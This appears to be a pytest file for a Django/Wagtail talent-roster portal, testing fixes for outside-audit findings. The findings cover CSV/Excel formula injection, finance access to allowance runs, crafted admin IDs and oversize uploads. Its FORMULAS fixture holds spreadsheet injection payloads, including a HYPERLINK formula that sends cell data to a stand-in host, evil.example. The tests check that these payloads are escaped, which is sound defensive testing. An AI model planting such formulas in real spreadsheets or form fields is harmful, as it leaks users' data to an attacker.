"""Issue “Trust”: findings of the outside audit, each class with a test that fails if it comes back."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.log_actions import log

from roster import allowance, exports, statistics
from roster.models import AllowanceRun, Entry
from roster.spreadsheets import csv_text
from tests import clock
from tests.factories import EntryFactory, PersonFactory, RoundFactory, UnitFactory, UserFactory
from workflow import roles
from workflow.states import Status

S = Status
pytestmark = pytest.mark.django_db
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此")',
    '=WEBSERVICE("http://evil.example")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
]


def cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


# --- 3. Formula injection: every workbook and CSV the portal writes keeps text as text -------------------


@pytest.fixture
def hostile_entries():
    """Chief technicians whose unit typed formulas into the name, the unit and the deeds summary."""
    made, round_ = [], RoundFactory(year=2024)
    for n, formula in enumerate(FORMULAS):
        unit = UnitFactory(name=f"{formula}{n}")
        person = PersonFactory(unit=unit, name=formula[:30])
        made.append(EntryFactory(round=round_, person=person, status=S.ACTIVE, deeds_summary=formula))
    return made


def assert_text_only(content: bytes, expected: list[str]):
    found = cells(content)
    assert not [c.coordinate for c in found if c.data_type == "f"], "a typed value became a formula"
    values = {c.value for c in found}
    for text in expected:
        assert text in values, text


def test_office_workbooks_write_typed_formulas_as_text(hostile_entries):
    entries = Entry.objects.all()
    names = [e.person.name for e in hostile_entries]
    assert_text_only(exports.talent_pool(entries, with_numbers=True), names)
    assert_text_only(exports.round_candidates(hostile_entries[0].round, entries, with_numbers=True), FORMULAS)
    assert_text_only(statistics.workbook("chief", "industry", [(FORMULAS[0], 1)]), [FORMULAS[0]])
    with clock.travel(2026, 11, 24):
        run = allowance.compute_run(2026)
    paid = [line.entry.person.name for line in run.lines.select_related("entry__person")]
    assert paid
    assert_text_only(allowance.run_workbook(run), paid)


def test_csv_cells_that_start_a_formula_are_escaped():
    for formula in FORMULAS:
        assert csv_text(formula) == "'" + formula
    assert csv_text("林一帆") == "林一帆" and csv_text(3) == 3


def test_wagtail_site_history_csv_escapes_typed_formulas(client):
    admin = get_user_model().objects.create_superuser("root", "root@example.cn", "pw-test-123")
    unit = UnitFactory(name=FORMULAS[0])
    log(instance=unit, action="wagtail.create", user=admin)
    client.force_login(admin)
    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(body)))
    labels = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULAS[0] in labels and FORMULAS[0] not in labels


# --- 4. Finance sees and downloads approved allowance runs only -----------------------------------------


def test_finance_never_sees_or_downloads_a_run_not_yet_approved(client):
    office, second = UserFactory(role=roles.OFFICE), UserFactory(role=roles.OFFICE)
    finance = UserFactory(role=roles.FINANCE)
    EntryFactory(status=S.ACTIVE, round=RoundFactory(year=2022))
    with clock.travel(2026, 11, 24):
        pending = allowance.compute_run(2024, office)
        approved = allowance.approve_run(allowance.compute_run(2023, office), second)
    assert not pending.approved and approved.approved
    client.force_login(finance)
    listing = client.get(reverse("roster_allowance_runs")).content.decode()
    assert "2023" in listing and reverse("roster_allowance_run", args=(2024,)) not in listing
    assert client.get(reverse("roster_allowance_run", args=(2024,))).status_code == 404
    assert client.get(reverse("roster_allowance_download", args=(2024,))).status_code == 404
    download = client.get(reverse("roster_allowance_download", args=(2023,)))
    assert download.status_code == 200 and download.content.startswith(b"PK")
    # The office still sees and downloads the run it is preparing.
    client.force_login(office)
    assert client.get(reverse("roster_allowance_run", args=(2024,))).status_code == 200
    assert client.get(reverse("roster_allowance_download", args=(2024,))).status_code == 200
    assert AllowanceRun.objects.count() == 2


# --- 7. Crafted admin input gets a clear refusal, never a 500, and changes nothing -------------------------

HUGE = "1234567890123456789012345"


@pytest.fixture
def office_client(client):
    client.force_login(UserFactory(role=roles.OFFICE))
    client.raise_request_exception = False
    return client


@pytest.mark.parametrize("model", ["person", "unit", "entry"])
def test_admin_list_search_by_chinese_name_answers(office_client, model):
    entry = EntryFactory()
    entry.person.name = "林一帆"
    entry.person.save()
    response = office_client.get(f"/admin/snippets/roster/{model}/", {"q": "林"})
    assert response.status_code == 200
    if model == "person":
        assert "林一帆" in response.content.decode()


def test_crafted_ids_in_edit_forms_are_refused_in_chinese_and_change_nothing(office_client):
    entry = EntryFactory()
    person = entry.person
    before = (Entry.objects.get(pk=entry.pk).round_id, person.name)
    for url, data in (
        (f"/admin/snippets/roster/entry/edit/{entry.pk}/", {"round": "abc", "person": person.pk}),
        (f"/admin/snippets/roster/person/edit/{person.pk}/", {"photo": "abc", "name": "改名", "unit": HUGE}),
        (f"/admin/snippets/roster/round/edit/{entry.round.pk}/", {"experts": [HUGE, "abc"], "year": 2024}),
    ):
        response = office_client.post(url, data)
        assert response.status_code == 200, (url, response.status_code)
        assert "所选项不存在" in response.content.decode(), url
    person.refresh_from_db()
    assert (Entry.objects.get(pk=entry.pk).round_id, person.name) == before


def test_crafted_bulk_ids_are_refused(office_client):
    entry = EntryFactory()
    response = office_client.get(f"/admin/bulk/roster/entry/delete/?id={HUGE}&id=x", follow=True)
    assert response.status_code == 200
    assert "所选记录编号无效" in response.content.decode()
    assert Entry.objects.filter(pk=entry.pk).exists()


# --- 1 (part). Snippet choosers follow the row rules and never create ------------------------------------


def test_snippet_choosers_list_only_visible_rows_and_create_nothing(client):
    mine, other = EntryFactory(), EntryFactory()
    recommender = UserFactory(role=roles.RECOMMENDER, unit=mine.unit)
    client.force_login(recommender)
    client.raise_request_exception = False
    for model, own, foreign in (
        ("person", mine.person, other.person),
        ("entry", mine, other),
        ("unit", mine.unit, other.unit),
    ):
        listing = client.get(f"/admin/snippets/choose/roster/{model}/")
        assert listing.status_code in (200, 302, 403), model
        if listing.status_code == 200:
            assert str(foreign) not in listing.content.decode(), model
        assert client.get(f"/admin/snippets/choose/roster/{model}/chosen/{own.pk}/").status_code == 200, model
        assert client.get(f"/admin/snippets/choose/roster/{model}/chosen/{foreign.pk}/").status_code in (302, 403, 404)
        assert client.get(f"/admin/snippets/choose/roster/{model}/chosen/{HUGE}/").status_code in (302, 403, 404)
        created = client.post(f"/admin/snippets/choose/roster/{model}/create/", {"name": "新建"})
        assert created.status_code in (302, 403), (model, created.status_code)


# --- 10 (part). A certificate number keeps the district's format ----------------------------------------


def test_certify_refuses_a_certificate_number_in_another_format(client):
    from django.contrib.messages import get_messages

    office = UserFactory(role=roles.OFFICE)
    entry = EntryFactory(status=S.GOVERNMENT_REVIEW)
    client.force_login(office)
    url = reverse("roster_entry_move", args=(entry.pk, "certify"))
    for number in ("随便写", "=1+1", "SZSX-24-1", "ABC-2024-001"):
        response = client.post(url, {"announcement_date": "2025-01-20", "certificate_number": number})
        notes = [str(m) for m in get_messages(response.wsgi_request)]
        assert any("SZSX-年度-序号" in n for n in notes), (number, notes)
        entry.refresh_from_db()
        assert entry.status == S.GOVERNMENT_REVIEW and not entry.certificate_number
    client.post(url, {"announcement_date": "2025-01-20", "certificate_number": "SZSX-2024-007"})
    entry.refresh_from_db()
    assert entry.status == S.ACTIVE and entry.certificate_number == "SZSX-2024-007"


# --- 10 (part). A body larger than any form accepts is refused before it is read ----------------------------


def test_an_oversize_request_body_is_refused_unread(client, demo_site, settings):
    from roster.models import Objection
    from tests.factories import objection_data

    settings.MAX_REQUEST_BYTES = 4096
    notice = demo_site["publicity"]
    candidate = EntryFactory(round=notice.round, status=S.DISTRICT_PUBLICITY)
    big = SimpleUploadedFile("big.pdf", b"%PDF-1.4\n" + b"%" * 8192, content_type="application/pdf")
    response = client.post(notice.objection_url(), objection_data(candidate, attachment=big))
    assert response.status_code == 413
    assert "未被接收" in response.content.decode()
    assert not Objection.objects.exists()
    # A body within the cap reaches the form as before.
    assert client.get(notice.objection_url()).status_code == 200
